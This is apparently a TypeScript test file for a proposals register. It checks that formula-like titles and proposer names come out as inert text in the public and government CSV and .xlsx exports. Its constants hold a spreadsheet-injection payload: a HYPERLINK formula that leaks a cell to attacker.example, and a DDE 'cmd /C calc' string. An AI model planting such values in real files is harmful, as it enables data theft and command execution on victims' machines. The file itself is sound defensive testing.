// A public proposal whose title is a spreadsheet formula comes out of the proposals register as
// text: in the CSV behind a leading ', in the .xlsx as a text cell formatted as Text, never a formula
// (the public's download and the government's, which adds the proposer's name).
import Papa from "papaparse";
import { readSheet } from "read-excel-file/universal";
import { beforeAll, describe, expect, it } from "vitest";
import { Client } from "../../worker/client";
import { collecting, OPEN_YEAR } from "../../worker/fixtures";
import { xlsxCell } from "../../worker/xlsx";

const J = "159921";
const BASE = `/j/${J}/${OPEN_YEAR}`;
const TITLE = '=HYPERLINK("http://attacker.example/?leak="&A2,"x")';
const NAME = "@SUM(1+1)*cmd|' /C calc'!A0";

let trackingNo = "";

beforeAll(async () => {
  await collecting();
  const res = await new Client("198.51.100.71").post(`${BASE}/propose`, {
    idempotencyKey: "formula-title-0000000001",
    category: "water",
    title: TITLE,
    background: "-1+1",
    content: "+1+1",
    locationCode: "159921101",
    proposerName: NAME,
  });
  expect(res.status).toBe(303);
  trackingNo = (res.headers.get("location") ?? "").match(/^\/p\/([^?]+)/)?.[1] ?? "";
  expect(trackingNo).not.toBe("");
});

async function csvRow(c: Client): Promise<{ header: string[]; row: string[] }> {
  const text = await (await c.get(`${BASE}/exports/proposals.csv`)).text();
  const rows = Papa.parse<string[]>(text.replace(/^\uFEFF/, ""), { skipEmptyLines: true }).data;
  const row = rows.find((r) => r[0] === trackingNo);
  if (!row || !rows[0]) throw new Error("proposal not in the CSV");
  return { header: rows[0], row };
}

describe("a formula in a proposal", () => {
  it("is text in the public CSV: a leading quote", async () => {
    const { header, row } = await csvRow(new Client());
    expect(row[header.indexOf("项目名称")]).toBe(`'${TITLE}`);
    expect(row[header.indexOf("项目背景")]).toBe("'-1+1");
    expect(row[header.indexOf("主要内容")]).toBe("'+1+1");
  });

  it("is a text cell, not a formula, in the public .xlsx", async () => {
    const xlsx = await (await new Client().get(`${BASE}/exports/proposals.xlsx`)).arrayBuffer();
    const rows = (await readSheet(new Blob([xlsx]))) as unknown[][];
    const at = rows.findIndex((r) => r[0] === trackingNo);
    expect(at).toBeGreaterThan(0);
    const col = rows[0]?.indexOf("项目名称") ?? -1;
    expect(rows[at]?.[col]).toBe(TITLE);
    const ref = `${String.fromCharCode(65 + col)}${at + 1}`;
    expect(await xlsxCell(xlsx, ref)).toEqual({ type: "s", formula: false, format: "@" });
  });

  it("is neutralised in the government's download with the proposer's name too", async () => {
    const gov = await new Client("198.51.100.72").loginStaff("gov");
    const { header, row } = await csvRow(gov);
    expect(row[header.indexOf("项目名称")]).toBe(`'${TITLE}`);
    expect(row).toContain(`'${NAME}`);
    const xlsx = await (await gov.get(`${BASE}/exports/proposals.xlsx`)).arrayBuffer();
    const rows = (await readSheet(new Blob([xlsx]))) as unknown[][];
    const at = rows.findIndex((r) => r[0] === trackingNo);
    const col = rows[at]?.indexOf(NAME) ?? -1;
    expect(col).toBeGreaterThan(0);
    const ref = `${String.fromCharCode(65 + col)}${at + 1}`;
    expect(await xlsxCell(xlsx, ref)).toEqual({ type: "s", formula: false, format: "@" });
  });
});
